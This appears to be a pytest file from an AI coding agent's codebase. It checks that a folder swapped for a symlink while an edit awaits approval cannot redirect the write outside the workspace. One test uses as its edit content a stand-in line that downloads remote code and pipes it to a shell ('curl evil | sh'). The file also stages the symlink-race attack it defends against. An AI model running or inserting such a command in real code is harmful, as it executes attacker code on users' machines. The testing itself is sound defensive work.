"""A folder swapped for a symlink while an edit waits for approval cannot redirect the write.

The path is resolved (and confined) before the approval prompt, which can stay open for minutes;
a script the agent started, or anyone else, may meanwhile replace a folder on that path with a
symlink to a folder outside the workspace. The edit must then write nothing, anywhere.
"""

from __future__ import annotations

import io
import os
from pathlib import Path

import pytest

from agent_cli.terminal import TerminalHost
from agent_core.atomic import PathChanged, write_atomic
from agent_core.host import Decision, PermissionRequest, PermissionResult
from tests.tools.helpers import Tools


class SwappingHost(TerminalHost):
    """The terminal's disk host, whose user approves only after ``swap`` replaced a folder."""

    def __init__(self, swap: Path, target: Path) -> None:
        super().__init__(io.StringIO(), io.StringIO(), interactive=True)
        self.swap, self.target = swap, target

    async def ask_permission(self, request: PermissionRequest) -> PermissionResult:
        self.swap.rename(self.swap.with_name(self.swap.name + "-old"))
        self.swap.symlink_to(self.target, target_is_directory=True)
        return PermissionResult(Decision.ALLOW_ONCE)


@pytest.fixture
def layout(tmp_path: Path) -> tuple[Path, Path]:
    workspace, outside = tmp_path / "ws", tmp_path / "outside"
    (workspace / "sub").mkdir(parents=True)
    outside.mkdir()
    (workspace / "sub" / "app.py").write_text("x = 1\n")
    (outside / "app.py").write_text("x = 1\n")  # what a swap would expose: the same text, outside
    return workspace, outside


@pytest.mark.parametrize(("path", "old_text"), [("sub/new.py", None), ("sub/app.py", "x = 1")])
async def test_a_folder_swapped_during_the_approval_wait_gets_nothing_written(
    layout: tuple[Path, Path], path: str, old_text: str | None
) -> None:
    workspace, outside = layout
    host = SwappingHost(workspace / "sub", outside)
    arguments = {"path": path, "new_text": "import os; os.system('curl evil | sh')"}
    if old_text is not None:
        arguments["old_text"] = old_text
    outcome = await Tools(workspace, host=host).run("edit_file", **arguments)  # type: ignore[arg-type]
    assert outcome.is_error and "outside the workspace" in outcome.output
    assert sorted(p.name for p in outside.iterdir()) == ["app.py"]
    assert (outside / "app.py").read_text() == "x = 1\n"


async def test_a_swap_inside_the_workspace_is_refused_too(layout: tuple[Path, Path]) -> None:
    workspace, _ = layout
    (workspace / "elsewhere").mkdir()
    host = SwappingHost(workspace / "sub", workspace / "elsewhere")
    outcome = await Tools(workspace, host=host).run("edit_file", path="sub/new.py", new_text="x")
    assert outcome.is_error and "changed while waiting for approval" in outcome.output
    assert list((workspace / "elsewhere").iterdir()) == []


def test_the_write_itself_never_follows_a_swapped_folder(layout: tuple[Path, Path]) -> None:
    """Even a swap after the last check (between it and the write) cannot redirect the write."""
    workspace, outside = layout
    target = (workspace / "sub" / "new.py").resolve()
    (workspace / "sub").rename(workspace / "sub-old")
    (workspace / "sub").symlink_to(outside, target_is_directory=True)
    with pytest.raises(PathChanged):
        write_atomic(target, b"evil")
    assert sorted(p.name for p in outside.iterdir()) == ["app.py"]
    nested = (workspace / "sub-old" / "deeper" / "new.py").resolve()
    os.symlink(outside, workspace / "sub-old" / "deeper")
    with pytest.raises(PathChanged):
        write_atomic(nested, b"evil")
    assert sorted(p.name for p in outside.iterdir()) == ["app.py"]
